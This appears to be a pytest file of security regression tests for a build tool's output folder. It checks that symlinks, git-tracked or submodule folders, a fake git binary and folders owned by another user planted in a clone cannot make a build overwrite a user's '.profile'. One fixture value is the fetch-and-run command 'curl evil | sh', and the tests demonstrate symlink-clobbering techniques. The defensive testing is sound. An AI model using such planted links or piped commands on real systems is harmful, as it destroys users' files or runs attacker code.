"""A clone that ships `.submodel/`, with links where a build writes.

Attacked: `contract.files.folders`, `submodel.build.paths`, `submodel.build.lock`. Each test but the last of each part
succeeds as an attack on 9201313 (the test fails there).
"""

from __future__ import annotations

import os
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from contract.errors import BuildError
from contract.files.folders import replace_folder
from contract.files.whole_files import write_json
from contract.repository.git import run_git
from submodel.build.lock import build_lock
from submodel.build.paths import prepare_output
from testbed.git import git

posix = pytest.mark.skipif(os.name != "posix", reason="links need a right on Windows")
CONTENT = "the user's own\n"


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "home" / ".profile"
    path.parent.mkdir()
    path.write_text(CONTENT)
    return path


@pytest.fixture
def output(tmp_path: Path) -> Path:
    folder = tmp_path / "clone" / ".submodel"
    folder.mkdir(parents=True)
    return folder


# Partial files


@posix
def test_a_partial_file_is_never_written_through_a_link(output: Path, victim: Path) -> None:
    """Succeeds on 9201313: `.report.json.partial` is opened with "w"."""
    (output / ".report.json.partial").symlink_to(victim)
    write_json(output / "report.json", {"held out": "curl evil | sh"})
    assert victim.read_text() == CONTENT
    assert not (output / "report.json").is_symlink()


@posix
def test_a_partial_folder_is_never_filled_through_a_link(output: Path, victim: Path) -> None:
    """Held on 9201313 where the link leads somewhere; one that leads nowhere stopped the build for good."""
    for index, target in enumerate((victim.parent, victim.parent / "nowhere")):
        (output / f".model{index}.partial").symlink_to(target)
        with replace_folder(output / f"model{index}", marker="m") as fresh:
            (fresh / "m").write_text("weights")
        assert (output / f"model{index}" / "m").read_text() == "weights"
    assert sorted(path.name for path in victim.parent.iterdir()) == [victim.name]


# The folder


@posix
def test_gitignore_is_never_written_through_a_link(output: Path, victim: Path) -> None:
    """Succeeds on 9201313: a link that leads nowhere makes the file there."""
    (output / ".gitignore").symlink_to(victim.parent / "planted")
    (output / "..gitignore.partial").symlink_to(victim)
    with pytest.raises(BuildError, match="is a link"):
        prepare_output(output)
    assert victim.read_text() == CONTENT
    assert not (victim.parent / "planted").exists()


def test_a_gitignore_that_came_along_does_not_show_the_model_to_git(output: Path) -> None:
    """Succeeds on 11cca76f: an archive's `.submodel/.gitignore` was kept, and `git add .` took in the model."""
    (output / ".gitignore").write_text("!*\n")
    prepare_output(output)
    assert (output / ".gitignore").read_text() == "*\n"


@posix
def test_a_linked_output_folder_is_refused(tmp_path: Path, victim: Path) -> None:
    """Succeeds on 9201313."""
    clone = tmp_path / "clone"
    clone.mkdir()
    (clone / ".submodel").symlink_to(victim.parent)
    with pytest.raises(BuildError, match=r"\.submodel is a link.*-o"):
        prepare_output(clone / ".submodel")
    assert [path.name for path in victim.parent.iterdir()] == [victim.name]


@pytest.mark.parametrize("ignored", [None, "dist/\n"])
def test_a_folder_that_holds_other_things_is_refused(tmp_path: Path, ignored: str | None) -> None:
    """Succeeds on f747521: `-o reports` replaced reports/report.html, and `-o .` hid new files from git."""
    other = tmp_path / "reports"
    other.mkdir()
    (other / "report.html").write_text(CONTENT)
    if ignored is not None:
        (other / ".gitignore").write_text(ignored)
    with pytest.raises(BuildError, match=r"reports holds files that no build has made; .* with -o\.$"):
        prepare_output(other)
    assert sorted(path.name for path in other.iterdir()) == sorted(
        ["report.html"] + [".gitignore"] * (ignored is not None)
    )
    (tmp_path / "new").mkdir()
    for _ in range(2):
        prepare_output(tmp_path / "new")
        (tmp_path / "new" / "stages").mkdir(exist_ok=True)


@posix
@pytest.mark.parametrize("name", ["stages", "model/config.json", "lock.json", "report.html"])
def test_links_below_the_output_folder_are_refused(output: Path, victim: Path, name: str) -> None:
    """Succeeds on 9201313."""
    (output / name).parent.mkdir(exist_ok=True)
    (output / name).symlink_to(victim.parent)
    with pytest.raises(BuildError, match=f"{name} is a link"):
        prepare_output(output)


@pytest.mark.parametrize("name", [".submodel", ".SubModel"])
def test_an_output_folder_that_git_tracks_is_refused(tmp_path: Path, name: str) -> None:
    """Succeeds on 9201313; in another case too, since file systems may not tell the two apart."""
    clone = tmp_path / "clone"
    (clone / name / "stages").mkdir(parents=True)
    (clone / name / "stages" / "prune.json").write_text("{}")
    git(clone, "init", "-q")
    git(clone, "add", "-f", ".")
    git(clone, "commit", "-qm", "planted")
    (clone / ".submodel").mkdir(exist_ok=True)
    with pytest.raises(BuildError, match="tracked by git"):
        prepare_output(clone / ".submodel")


@posix
@pytest.mark.parametrize("limits", [{"max_bytes": 1}, {"timeout_s": 0.5}])
def test_an_output_folder_of_which_git_says_too_much_or_nothing_is_refused(
    output: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limits: dict[str, Any]
) -> None:
    """Succeeds on cc3f76c, where each of git's errors counted as "it is not tracked"."""
    script = tmp_path / "git"
    script.write_text("#!/bin/sh\necho a.py\nexec sleep 60\n")
    script.chmod(0o700)
    monkeypatch.setattr("contract.repository.git.find_program", lambda name: str(script))
    monkeypatch.setattr("submodel.build.paths.run_git", partial(run_git, **limits))
    with pytest.raises(BuildError, match="is not known"):
        prepare_output(output)


def test_an_output_folder_that_is_a_submodule_is_refused(tmp_path: Path) -> None:
    """Succeeds on 9201313: git tracks no file below a submodule, but the folder itself."""
    inner, clone = tmp_path / "inner", tmp_path / "clone"
    for folder in (inner, clone):
        folder.mkdir()
        git(folder, "init", "-q")
    (inner / "lock.json").write_text("{}")
    git(inner, "add", ".")
    git(inner, "commit", "-qm", "planted")
    git(clone, "-c", "protocol.file.allow=always", "submodule", "add", str(inner), ".submodel")
    with pytest.raises(BuildError, match="tracked by git"):
        prepare_output(clone / ".submodel")


@posix
def test_another_users_output_folder_is_refused(output: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Succeeds on 9201313."""
    monkeypatch.setattr(os, "geteuid", lambda: output.stat().st_uid + 1)
    with pytest.raises(BuildError, match="belongs to another user"):
        prepare_output(output)


def test_a_folder_of_ones_own_is_used_again(tmp_path: Path) -> None:
    """No attack: what is refused is not all."""
    clone = tmp_path / "clone"
    clone.mkdir()
    git(clone, "init", "-q")
    for _ in range(2):
        prepare_output(clone / ".submodel")
    assert (clone / ".submodel" / ".gitignore").read_text() == "*\n"
    prepare_output(tmp_path / "no" / "repository")


# The lock


@posix
@pytest.mark.parametrize("name", ["lock", "lock.json"])
def test_a_linked_lock_is_one_sentence(output: Path, victim: Path, name: str) -> None:
    """Succeeds on 9201313: `lock` raises an OSError that nobody catches, `.lock.json.partial` is written through."""
    (output / name).symlink_to(victim)
    (output / ".lock.json.partial").symlink_to(victim)
    if name == "lock":
        with pytest.raises(BuildError, match="lock"), build_lock(output):
            pass
    else:
        with build_lock(output):
            pass
    assert victim.read_text() == CONTENT


@posix
def test_unpacking_into_a_linked_output_folder_is_refused(
    tmp_path: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Succeeds on 9201313: the archive is opened, and would be unpacked beside the victim."""
    from submodel.commands.pack import unpack

    clone = tmp_path / "clone"
    clone.mkdir()
    (clone / ".submodel").symlink_to(victim.parent)
    monkeypatch.chdir(clone)
    with pytest.raises(BuildError, match="is a link"):
        unpack(tmp_path / "packed.submodel", None)
